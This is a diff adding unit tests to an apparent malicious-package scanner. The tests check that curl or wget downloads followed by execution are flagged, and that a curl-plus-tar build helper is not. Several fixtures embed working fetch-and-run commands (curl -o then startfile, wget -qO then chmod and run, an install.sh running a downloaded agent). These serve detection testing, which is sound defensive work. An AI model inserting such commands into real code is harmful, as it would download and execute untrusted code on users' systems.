@@ -97,3 +97,50 @@ def test_a_telemetry_ping_called_only_by_a_helper_stays_low(tmp_path):
     }
     result = scan(files, tmp_path)
     assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+# ---------------------------------------------------------------- curl/wget as the downloader
+def test_curl_saving_a_file_that_is_then_started_is_download_execute(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "import os\nimport subprocess\n"
+            "p = os.path.join(os.environ['TEMP'], 'a.exe')\n"
+            "subprocess.run(['curl', '-s', '-o', p, 'http://192.0.2.5/a.exe'])\n"
+            "os.startfile(p)\n"
+        )
+    }
+    assert_high_with("curl -o then startfile", scan(files, tmp_path), {"chain.download_execute"})
+
+
+def test_wget_with_combined_flags_then_chmod_and_run_is_download_execute(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "import os\nos.spawnlp(os.P_NOWAIT, 'sh', 'sh', '-c',\n"
+            "           'wget -qO /tmp/.x http://192.0.2.5/x && chmod +x /tmp/.x && /tmp/.x')\n"
+        )
+    }
+    assert_high_with("wget -qO", scan(files, tmp_path), {"chain.download_execute"})
+
+
+def test_curl_combined_output_flag_in_a_shell_script_is_download_execute(tmp_path):
+    files = {
+        "setup.py": "from setuptools import setup\nsetup(name='pkg', version='1.0')\n",
+        "install.sh": "#!/bin/sh\ncurl -fsSLo /tmp/agent http://198.51.100.8/agent; ./agent\n",
+    }
+    result = scan(files, tmp_path)
+    assert any(f.rule == "pat.curl_exec_file" for f in result.findings), result.findings
+
+
+def test_curl_fetching_an_archive_unpacked_by_tar_is_no_download_execute(tmp_path):
+    """A build helper that curls a source archive and unpacks it with tar runs no download."""
+    files = {
+        "pkg/__init__.py": "",
+        "pkg/fetch.py": (
+            "import subprocess\n\n\ndef fetch(dest):\n"
+            "    subprocess.run(['curl', '-sSLo', dest, 'https://example.invalid/src.tar.gz'])\n"
+            "    subprocess.run(['tar', 'xzf', dest])\n"
+        ),
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
+    assert not any(t.id == "chain.download_execute" for t in result.threats)
